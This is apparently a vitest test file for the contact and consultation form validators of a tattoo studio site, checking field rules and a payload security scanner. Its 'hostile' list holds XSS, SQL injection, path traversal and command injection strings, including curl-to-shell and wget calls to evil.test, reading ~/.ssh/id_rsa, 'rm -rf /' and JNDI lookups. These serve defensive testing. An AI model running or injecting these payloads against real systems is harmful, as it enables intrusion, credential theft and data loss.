import { describe, expect, it } from "vitest";
import { consultationSchema } from "../../shared/schemas/consultation";
import { contactSchema } from "../../shared/schemas/contact";
import { fieldErrors, messages } from "../../shared/schemas/fields";
import { hasDangerousMarkup, scanPayload } from "../../shared/schemas/security-scan";
import { validConsultation, validContact } from "./submission-support";

/** The first message for `field`, or undefined when the payload passes for that field. */
function errorFor(schema: typeof contactSchema | typeof consultationSchema, payload: unknown, field: string) {
  const result = schema.safeParse(payload);
  return result.success ? undefined : fieldErrors(result.error.issues)[field];
}

const contactWith = (patch: Record<string, unknown>) => ({ ...validContact(), ...patch });
const consultationWith = (patch: Record<string, unknown>) => ({ ...validConsultation(), ...patch });

describe("e-mail rule", () => {
  it.each([
    [undefined, messages.emailRequired],
    ["   ", messages.emailRequired],
    [`${"a".repeat(250)}@x.io`, messages.emailTooLong],
    ["not-an-email", messages.emailFormat],
    ["name@domain", messages.emailFormat],
    ["two@@example.com", messages.emailFormat],
    ["<script>@example.com", messages.emailCharacters],
    ["javascript:alert(1)@example.com", messages.emailCharacters],
  ])("%j -> %s", (email, message) => {
    expect(errorFor(contactSchema, contactWith({ email }), "email")).toBe(message);
  });

  it.each([
    "first.last+tattoo@sub.example.co.uk",
    "o'brien@example.ie",
    "MARA@EXAMPLE.COM",
    "x_y-z@my-domain.studio",
  ])("accepts %s", (email) => {
    expect(errorFor(contactSchema, contactWith({ email }), "email")).toBeUndefined();
  });

  it("trims and lower-cases the address", () => {
    const data = contactSchema.parse(contactWith({ email: "  Mara.Ellison@Example.COM " }));
    expect(data.email).toBe("mara.ellison@example.com");
  });
});

describe("name rule", () => {
  it.each([
    [undefined, messages.nameRequired],
    ["", messages.nameRequired],
    ["A", messages.nameTooShort],
    ["x".repeat(51), messages.nameTooLong],
    ["R2-D2", messages.nameCharacters],
    ["Robert'); DROP", messages.nameCharacters],
    ["<b>Bob</b>", messages.nameCharacters],
    ["name@example.com", messages.nameCharacters],
  ])("%j -> %s", (name, message) => {
    expect(errorFor(contactSchema, contactWith({ name }), "name")).toBe(message);
  });

  it.each([
    "Al",
    "Mary-Jane O'Neil",
    "José Álvarez",
    "Zoë Nguyễn",
    "Siobhán Ní Bhriain",
    "李小龙",
    "Ægir Þórsson",
    "D’Angelo Brooks",
    "J. R. Ortiz",
    "x".repeat(50),
  ])("accepts %s", (name) => {
    expect(errorFor(contactSchema, contactWith({ name }), "name")).toBeUndefined();
  });
});

describe("phone rule", () => {
  it("is required on the consultation form", () => {
    expect(errorFor(consultationSchema, consultationWith({ phone: "" }), "phone")).toBe(
      messages.phoneRequired,
    );
  });

  it("is optional on the contact form and stored as null when blank", () => {
    expect(contactSchema.parse(contactWith({ phone: "" })).phone).toBeNull();
  });

  it.each([
    ["555-0142", messages.phoneLength],
    ["1234567890123456", messages.phoneLength],
    ["301555014x", messages.phoneCharacters],
    ["++13015550142", messages.phoneCharacters],
    ["301 555 0142 ext", messages.phoneCharacters],
  ])("%j -> %s", (phone, message) => {
    expect(errorFor(consultationSchema, consultationWith({ phone }), "phone")).toBe(message);
  });

  it.each([
    ["(301) 555-0142", "3015550142"],
    ["301.555.0142", "3015550142"],
    ["+1 301 555 0142", "+13015550142"],
    ["+44 20 7946 0958", "+442079460958"],
  ])("accepts %s and stores %s", (phone, stored) => {
    expect(consultationSchema.parse(consultationWith({ phone })).phone).toBe(stored);
  });
});

describe("text rules", () => {
  it.each([
    ["", messages.textRequired],
    ["too short", messages.textTooShort(10)],
    ["x".repeat(1001), messages.textTooLong(1000)],
    ["<script>alert(1)</script> a rose please", messages.textDangerous],
    ['A rose <img src=x onerror="alert(1)">', messages.textDangerous],
  ])("contact message %j -> %s", (message, expected) => {
    expect(errorFor(contactSchema, contactWith({ message }), "message")).toBe(expected);
  });

  it("counts characters as people do (emoji count once)", () => {
    expect(errorFor(contactSchema, contactWith({ message: "🌹".repeat(1000) }), "message")).toBeUndefined();
    expect(errorFor(contactSchema, contactWith({ message: "🌹".repeat(10) }), "message")).toBeUndefined();
  });

  it("service is optional up to 100 characters", () => {
    expect(errorFor(contactSchema, contactWith({ service: "" }), "service")).toBeUndefined();
    expect(errorFor(contactSchema, contactWith({ service: "x".repeat(101) }), "service")).toBe(
      messages.textTooLong(100),
    );
  });

  it.each([
    ["tattooIdea", "", messages.textRequired],
    ["tattooIdea", "a wolf", messages.textTooShort(10)],
    ["tattooIdea", "w".repeat(1001), messages.textTooLong(1000)],
    ["size", "s".repeat(51), messages.textTooLong(50)],
    ["placement", "p".repeat(101), messages.textTooLong(100)],
    ["timeframe", "t".repeat(51), messages.textTooLong(50)],
    ["experience", "e".repeat(101), messages.textTooLong(100)],
    ["budget", "b".repeat(51), messages.textTooLong(50)],
    ["availability", "a".repeat(501), messages.textTooLong(500)],
  ])("consultation %s %j -> %s", (field, value, expected) => {
    expect(errorFor(consultationSchema, consultationWith({ [field]: value }), field)).toBe(expected);
  });

  it("optional consultation fields may be blank and are stored as null", () => {
    const data = consultationSchema.parse(
      consultationWith({
        size: "",
        placement: " ",
        timeframe: "",
        experience: "",
        budget: "",
        availability: "",
      }),
    );
    expect([
      data.size,
      data.placement,
      data.timeframe,
      data.experience,
      data.budget,
      data.availability,
    ]).toEqual([null, null, null, null, null, null]);
  });

  it("accepts the limits exactly", () => {
    const data = consultationSchema.parse(
      consultationWith({ tattooIdea: "i".repeat(1000), size: "s".repeat(50), availability: "a".repeat(500) }),
    );
    expect(data.tattooIdea).toHaveLength(1000);
  });
});

describe("age verification", () => {
  it.each([undefined, false, "true", 1, null])("%j is refused with the age message", (ageVerification) => {
    expect(errorFor(contactSchema, contactWith({ ageVerification }), "ageVerification")).toBe(
      messages.ageRequired,
    );
    expect(errorFor(consultationSchema, consultationWith({ ageVerification }), "ageVerification")).toBe(
      messages.ageRequired,
    );
  });

  it("the age message is exact", () => {
    expect(messages.ageRequired).toBe(
      "Age verification is required. You must be 18 or older to use our services.",
    );
  });
});

describe("valid forms", () => {
  it("a full contact form parses to what is stored", () => {
    expect(contactSchema.parse(validContact())).toMatchObject({
      name: "Alicia Moreno",
      email: "alicia.moreno@example.com",
      phone: "3015550111",
      service: "small",
      newsletter: true,
      ageVerification: true,
    });
  });

  it("a minimal contact form (name, e-mail, message, age) passes", () => {
    const result = contactSchema.safeParse({
      name: "Bo",
      email: "bo@example.com",
      message: "Hello there!",
      ageVerification: true,
    });
    expect(result.success).toBe(true);
  });

  it("reports every failing field at once", () => {
    const result = consultationSchema.safeParse({});
    expect(result.success).toBe(false);
    if (result.success) return;
    expect(fieldErrors(result.error.issues)).toEqual({
      name: messages.nameRequired,
      email: messages.emailRequired,
      phone: messages.phoneRequired,
      tattooIdea: messages.textRequired,
      ageVerification: messages.ageRequired,
    });
  });
});

describe("security scan of the whole payload", () => {
  const ordinary = [
    'Black & grey rose, about 3" x 4", with my mom\'s name "Rosa" underneath.',
    "I'd like to select a date in May; please drop me a line when you can.",
    "Memorial piece: 'Dad' in script -- 1954-2023. Can we do 5'2\" tall?",
    "Union Jack flag with a dropped anchor & rope, 6in x 3in (15cm).",
    "Cover-up of an old tribal band... then/maybe a Japanese wave.",
    "Size < 3 inches, heart <3 on the wrist, width>2cm; cat + dog portrait.",
    "My cat; cat on left arm, and the word 'delete' in typewriter font.",
    "Price range $(300-400)? I can pay 50% up front. Email me at a@b.co",
    "Script lettering: \"Or else\" and 'and so it goes' = my motto.",
    "C:/Users isn't a path I care about; 100% custom, ~4 hrs, #blessed",
    "Can you do a snake eating its tail (ouroboros) - or maybe 2 snakes?",
    "Select from flash: #12 or #14, whichever is available; update me!",
    // Quotes, "and"/"or", "=", "--", "../" and "${...}" in prose: each of these was once refused.
    'About 3" and not bigger than my palm',
    "The words 'Hope' and not 'Despair'",
    'Script "Mom" and size = 3 inches',
    '"Love" or Hope = two words',
    "Lettering 'Family' --",
    "I'd like 'Family' --",
    "a sad expression (like a weeping angel)",
    "Facial features: expression (sad), eyes closed",
    "Dates 1990 ../ 2020 in roman numerals",
    "Mandala $" + "{name} style",
    "I'd like to select a rose & drop the stem",
    "5'10\" tall, 3x4 in on the forearm",
    "Mom & Dad; est. 1985",
  ];

  it.each(ordinary)("lets ordinary tattoo text through: %s", (text) => {
    expect(scanPayload({ message: text, tattooIdea: text })).toBeNull();
    expect(hasDangerousMarkup(text)).toBe(false);
  });

  const hostile: [string, string][] = [
    ["<script>alert(1)</script>", "xss"],
    ['<img src=x onerror="alert(1)">', "xss"],
    ["<svg/onload=alert(1)>", "xss"],
    ['<a href="javascript:alert(1)">x</a>', "xss"],
    ["&#60;script&#62;", "xss"],
    ["data:text/html;base64,PHNjcmlwdD4=", "xss"],
    ["<iframe src=//evil.test>", "xss"],
    ["' OR '1'='1", "sql"],
    ['" or 1=1 --', "sql"],
    ["1 UNION SELECT password FROM admins", "sql"],
    ["x'; DROP TABLE consultation_requests; --", "sql"],
    ["admin'--", "sql"],
    ["1; SELECT pg_sleep(5)", "sql"],
    ["'; WAITFOR DELAY '0:0:5'--", "sql"],
    ["../../etc/passwd", "path"],
    ["..\\..\\windows\\win.ini", "path"],
    ["%2e%2e%2f%2e%2e%2fetc", "path"],
    ["file\u0000.txt", "path"],
    ["$(curl http://evil.test/x | sh)", "command"],
    ["`cat ~/.ssh/id_rsa`", "command"],
    ["; rm -rf /", "command"],
    ["&& wget http://evil.test/x", "command"],
    ["| /bin/sh -i", "command"],
    ["$" + "{jndi:ldap://evil.test/a}", "command"],
    ["<img src=x onerror=alert(1)>", "xss"],
    ["javascript:alert(1)", "xss"],
    ['style="x:expression(alert(1))"', "xss"],
    ["' OR 1=1 --", "sql"],
    ["' OR 'a'='a", "sql"],
    ["') or ('x'='x", "sql"],
    ["' or true--", "sql"],
    ["admin' --", "sql"],
    ["1; DROP TABLE users", "sql"],
    ["UNION SELECT password FROM admins", "sql"],
    ["..%2f..%2fetc%2fpasswd", "path"],
    ["../.env", "path"],
    ["$(curl evil)", "command"],
    // The system file is the first thing recognised here, so it is reported as path traversal.
    ["`cat /etc/passwd`", "path"],
    ["$" + "{jndi:ldap://x}", "command"],
    ["$" + "{$" + "{lower:j}ndi:ldap://x}", "command"],
    ["$" + "{::-j}", "command"],
    ["$" + "{7*7}", "command"],
  ];

  it.each(hostile)("blocks %s", (text, kind) => {
    expect(scanPayload({ name: "Mara", message: text })).toBe(kind);
  });

  it("scans every string in the payload, keys and nested values included", () => {
    expect(scanPayload({ ok: "fine", nested: { deeper: ["<script>"] } })).toBe("xss");
    expect(scanPayload({ "<script>": 1 })).toBe("xss");
    expect(scanPayload({ a: 1, b: true, c: null })).toBeNull();
  });
});
